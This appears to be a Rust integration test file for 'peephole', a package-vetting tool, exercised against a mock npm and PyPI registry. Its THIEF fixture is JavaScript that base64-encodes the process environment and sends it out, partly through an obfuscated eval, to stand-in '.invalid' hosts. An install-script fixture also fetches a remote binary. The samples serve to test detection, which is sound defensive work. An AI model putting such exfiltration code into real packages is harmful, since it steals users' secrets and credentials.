//! `peephole vet` and `peephole fetch` against a registry on loopback.

#[path = "../../src/source/registry/tests/server.rs"]
#[allow(dead_code, reason = "shared with the unit tests, which use more of it")]
pub(crate) mod server;

use base64::Engine as _;
use serde_json::{Value, json};
use sha2::Digest as _;

pub(crate) use self::server::{Reply, Server};
use crate::support::{BAD, Run, gzip_of, peephole, run, tar_of, zip_of};

pub(crate) struct Lab {
    pub(crate) server: Server,
    pub(crate) home: tempfile::TempDir,
}

/// A tarball as npm makes it.
pub(crate) fn tarball(files: &[(&str, &str)]) -> Vec<u8> {
    gzip_of(&tar_of(files.iter().map(|(name, text)| (format!("package/{name}"), text))))
}

/// A JavaScript file that sends the environment away as soon as it is loaded. Nothing answers there.
pub(crate) const THIEF: &str = "const https=require('https');\n\
const d=Buffer.from(JSON.stringify(process.env)).toString('base64');\n\
eval(Buffer.from('cmVxdWlyZSgnaHR0cHMnKS5yZXF1ZXN0KHtob3N0OidjLmludmFsaWQnLG1ldGhvZDonUE9TVCd9KS5lbmQoSlNPTi5zdHJpbmdpZnkocHJvY2Vzcy5lbnYpKQ==','base64').toString());\n\
https.get('https://collector.invalid/?d='+d);\n";

impl Lab {
    pub(crate) fn new() -> Self {
        Self { server: Server::start(), home: tempfile::tempdir().unwrap() }
    }

    pub(crate) fn npm(&self, name: &str, version: &str, mut manifest: Value, archive: &[u8]) {
        let file = format!("/f/{}-{version}.tgz", name.replace('/', "-"));
        let digest = base64::engine::general_purpose::STANDARD.encode(sha2::Sha512::digest(archive));
        manifest["dist"] = json!({"tarball": self.server.at(&file), "integrity": format!("sha512-{digest}")});
        self.server.on(&file, Reply::Ok("application/octet-stream", archive.to_vec()));
        let path = format!("/{}", name.replace('/', "%2f"));
        let mut packument = match self.server.reply(&path) {
            Some(Reply::Ok(_, body)) => serde_json::from_slice(&body).unwrap(),
            _ => json!({"name": name, "versions": {}}),
        };
        packument["dist-tags"] = json!({"latest": version});
        packument["versions"][version] = manifest;
        self.server.json(&path, &packument);
    }

    /// The binary in a home of its own, set to the registry on loopback.
    pub(crate) fn call(&self, arguments: &[&str]) -> Run {
        let mut command = peephole();
        for name in ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy", "PIP_EXTRA_INDEX_URL", "PEEPHOLE_POLICY"] {
            command.env_remove(name);
        }
        command
            .env("HOME", self.home.path())
            .env("XDG_CACHE_HOME", self.home.path().join("cache"))
            .env("XDG_CONFIG_HOME", self.home.path().join("config"))
            .env("XDG_DATA_HOME", self.home.path().join("data"))
            .env("XDG_STATE_HOME", self.home.path().join("state"))
            .env("NPM_CONFIG_REGISTRY", self.server.at("/"))
            .env("PIP_INDEX_URL", self.server.at("/simple/"))
            .current_dir(self.home.path())
            .args(arguments);
        run(&mut command)
    }

    pub(crate) fn json(&self, arguments: &[&str]) -> (i32, Value) {
        let run = self.call(arguments);
        let value = serde_json::from_str(&run.stdout).unwrap_or_else(|e| panic!("{e}: {}{}", run.stdout, run.stderr));
        (run.code, value)
    }
}

const GOOD_JS: &str = "exports.add = (a, b) => a + b;\n";

/// A wrapper whose program is in a companion.
fn wrapper(lab: &Lab, companion: &str) {
    let manifest = r#"{"name":"@s/tool","version":"1.0.0","main":"index.js","optionalDependencies":{"@s/tool-linux-x64":"1.0.0"}}"#;
    lab.npm(
        "@s/tool",
        "1.0.0",
        json!({"optionalDependencies": {"@s/tool-linux-x64": "1.0.0"}}),
        &tarball(&[("package.json", manifest), ("index.js", GOOD_JS)]),
    );
    let manifest = r#"{"name":"@s/tool-linux-x64","version":"1.0.0","main":"index.js"}"#;
    lab.npm(
        "@s/tool-linux-x64",
        "1.0.0",
        json!({"os": ["linux"], "cpu": ["x64"]}),
        &tarball(&[("package.json", manifest), ("index.js", companion)]),
    );
}

#[test]
fn a_wrapper_is_never_judged_without_its_companion() {
    let lab = Lab::new();
    wrapper(&lab, THIEF);
    let (code, report) = lab.json(&["vet", "npm:@s/tool@1.0.0", "--format", "json"]);
    let subject = &report["subjects"][0];
    assert_eq!((code, &subject["verdict"]), (1, &json!("block")), "{subject:#}");
    assert_eq!(subject["purl"], "pkg:npm/%40s/tool@1.0.0");
    assert_eq!(subject["parts"][0]["verdict"], "pass");
    assert_eq!(subject["parts"][1]["verdict"], "block");
    assert_eq!(subject["parts"][1]["why"], "companion");
    assert_eq!(report["artifacts"].as_array().unwrap().len(), 2);

    // Without it, the wrapper alone is no answer.
    lab.server.on("/f/@s-tool-linux-x64-1.0.0.tgz", Reply::Status(404));
    let fresh = Lab { server: lab.server.clone(), home: tempfile::tempdir().unwrap() };
    let (code, report) = fresh.json(&["vet", "npm:@s/tool@1.0.0", "--format", "json"]);
    assert_eq!((code, &report["subjects"][0]["verdict"]), (4, &json!("incomplete")));
    assert_eq!(report["subjects"][0]["parts"][1]["state"], "failed");
    // For another platform it is left out, and that is said.
    let (code, report) = lab.json(&["vet", "npm:@s/tool", "--platform", "darwin-arm64", "--format", "json"]);
    assert_eq!(code, 0, "{report:#}");
    assert_eq!(report["subjects"][0]["parts"][1]["state"], "leftout");
}

#[test]
fn exit_codes_say_what_went_wrong() {
    let lab = Lab::new();
    wrapper(&lab, GOOD_JS);
    assert_eq!(lab.call(&["vet", "npm:@s/tool@1.0.0"]).code, 0);
    assert_eq!(lab.call(&["vet", "npm:unknown"]).code, 5);
    assert_eq!(lab.call(&["vet", "npm:@s/tool@9.9.9"]).code, 5);
    assert_eq!(lab.call(&["vet", "npm:../x"]).code, 2);
    let bare = lab.call(&["vet", "left-pad"]);
    assert_eq!(bare.code, 2);
    assert!(bare.stderr.contains("npm:left-pad"), "{}", bare.stderr);
    assert_eq!(lab.call(&["vet", "npm:x", "--registry", "http://127.0.0.1:9/"]).code, 6);
    assert_eq!(lab.call(&["vet", "npm:y", "--offline"]).code, 6);
    lab.server.on("/f/@s-tool-linux-x64-1.0.0.tgz", Reply::Ok("x/y", b"other".to_vec()));
    let fresh = Lab { server: lab.server.clone(), home: tempfile::tempdir().unwrap() };
    assert_eq!(fresh.call(&["vet", "npm:@s/tool@1.0.0"]).code, 7);
}

#[test]
fn fetched_once_it_is_vetted_without_the_network() {
    let lab = Lab::new();
    wrapper(&lab, GOOD_JS);
    let fetched = lab.call(&["fetch", "npm:@s/tool@1.0.0"]);
    assert_eq!((fetched.code, fetched.stdout.lines().count()), (0, 2), "{}", fetched.stderr);
    let asked = lab.server.log().len();
    let (code, report) = lab.json(&["vet", "npm:@s/tool@1.0.0", "--offline", "--format", "json"]);
    assert_eq!(code, 0);
    assert!(report["subjects"][0]["parts"].as_array().unwrap().iter().all(|p| p["state"] == "cached"));
    assert_eq!(lab.server.log().len(), asked);
    let (code, list) = lab.json(&["fetch", "npm:@s/tool", "--offline", "--format", "json"]);
    assert_eq!((code, list[0]["parts"].as_array().unwrap().len()), (0, 2));
}

#[test]
fn what_an_install_script_downloads_is_not_examined() {
    let lab = Lab::new();
    let manifest = r#"{"name":"tool","version":"1.0.0","scripts":{"postinstall":"node install.js"}}"#;
    let install =
        "const https = require('https');\nhttps.get('https://files.example.invalid/tool.bin', r => r.resume());\n";
    lab.npm("tool", "1.0.0", json!({}), &tarball(&[("package.json", manifest), ("install.js", install)]));
    let (code, report) = lab.json(&["vet", "npm:tool", "--format", "json"]);
    let gaps = report["artifacts"][0]["gaps"].as_array().unwrap();
    assert!(
        gaps.iter()
            .any(|g| g["reason"] == "unreadable" && g["detail"].as_str().unwrap().contains("files.example.invalid")),
        "{gaps:?}"
    );
    assert!(matches!(code, 1 | 4), "{code}");

    // Of an address that is put together nobody knows where it leads.
    let install = "const https = require('https');\nhttps.get(process.argv[2] + '/tool.bin', r => r.resume());\n";
    lab.npm(
        "other",
        "1.0.0",
        json!({}),
        &tarball(&[("package.json", &manifest.replace("tool", "other")), ("install.js", install)]),
    );
    let (_, report) = lab.json(&["vet", "npm:other", "--format", "json"]);
    let gaps = report["artifacts"][0]["gaps"].to_string();
    assert!(gaps.contains("an address that is computed"), "{gaps}");
}

#[test]
fn every_file_of_a_python_version_is_examined() {
    let lab = Lab::new();
    let wheel = zip_of([
        ("p/__init__.py", "x = 1\n"),
        ("p-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: p\nVersion: 1.0\n"),
        ("p-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
    ]);
    let sdist = gzip_of(&tar_of([
        ("p-1.0/setup.py", BAD),
        ("p-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: p\nVersion: 1.0\n"),
    ]));
    python(&lab, "p", &[("p-1.0-py3-none-any.whl", &wheel), ("p-1.0.tar.gz", &sdist)]);
    let (code, report) = lab.json(&["vet", "pypi:P==1.0", "--format", "json"]);
    assert_eq!((code, report["artifacts"].as_array().unwrap().len()), (1, 2));
    assert_eq!(report["subjects"][0]["verdict"], "block");
    // The module is in the wheel alone.
    let notes = report["subjects"][0]["notes"].to_string();
    assert!(notes.contains("p-1.0-py3-none-any.whl: not as in the source distribution: p/__init__.py"), "{notes}");
    assert!(report["artifacts"].as_array().unwrap().iter().all(|a| a.get("tree").is_none()));
}

#[test]
fn a_wheel_is_held_against_its_sources() {
    let vetted = |module: &str| {
        let lab = Lab::new();
        let metadata = "Metadata-Version: 2.1\nName: p\nVersion: 1.0\n";
        let wheel =
            zip_of([("p/__init__.py", "x = 1\n"), ("p/sub/m.py", module), ("p-1.0.dist-info/METADATA", metadata)]);
        let sdist = gzip_of(&tar_of([
            ("p-1.0/src/p/__init__.py", "x = 1\n"),
            ("p-1.0/src/p/sub/m.py", "y = [ 2 ]\n"),
            ("p-1.0/src/other/p/sub/m.py", "y = 3\n"),
            ("p-1.0/PKG-INFO", metadata),
        ]));
        python(&lab, "p", &[("p-1.0-py3-none-any.whl", &wheel), ("p-1.0.tar.gz", &sdist)]);
        let (code, report) = lab.json(&["vet", "pypi:p==1.0", "--format", "json"]);
        assert_eq!(code, 0, "{report:#}");
        report["subjects"][0]["notes"].to_string()
    };
    assert_eq!(vetted("y = [ 2 ]\n"), "[]");
    assert!(vetted("y = 4\n").contains("not as in the source distribution: p/sub/m.py"));
}

/// Puts a version of a project of PyPI with its files into a registry.
fn python(lab: &Lab, project: &str, archives: &[(&str, &Vec<u8>)]) {
    let mut files = Vec::new();
    for (name, bytes) in archives {
        lab.server.on(&format!("/f/{name}"), Reply::Ok("x/y", (*bytes).clone()));
        let digest: String = sha2::Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect();
        files
            .push(json!({"filename": name, "url": lab.server.at(&format!("/f/{name}")), "hashes": {"sha256": digest}}));
    }
    lab.server.on(
        &format!("/simple/{project}/"),
        Reply::Ok("application/vnd.pypi.simple.v1+json", json!({"files": files}).to_string().into_bytes()),
    );
}

#[test]
fn files_and_folders_are_vetted_too() {
    let lab = Lab::new();
    let path = lab.home.path().join("tool.tgz");
    std::fs::write(&path, tarball(&[("package.json", r#"{"name":"t","version":"1.0.0"}"#), ("index.js", GOOD_JS)]))
        .unwrap();
    let (code, report) = lab.json(&["vet", path.to_str().unwrap(), "--format", "json"]);
    assert_eq!((code, &report["subjects"][0]["parts"][0]["state"]), (0, &json!("given")));
    for format in ["terminal", "markdown", "sarif", "ndjson"] {
        let run = lab.call(&["vet", path.to_str().unwrap(), "--format", format]);
        assert_eq!(run.code, 0, "{format}: {}", run.stderr);
        assert!(!run.stdout.is_empty());
    }
}

#[test]
fn what_is_left_out_altogether_was_not_examined() {
    let lab = Lab::new();
    lab.npm("tool", "1.0.0", json!({"os": ["win32"]}), &tarball(&[("index.js", GOOD_JS)]));
    let lock = json!({"lockfileVersion": 3, "packages": {"node_modules/tool": {"version": "1.0.0"}}});
    std::fs::write(lab.home.path().join("package-lock.json"), lock.to_string()).unwrap();
    let (code, report) = lab.json(&["vet", "package-lock.json", "--platform", "linux-x64", "--format", "json"]);
    assert_eq!((code, &report["subjects"][0]["verdict"]), (4, &json!("incomplete")));
}
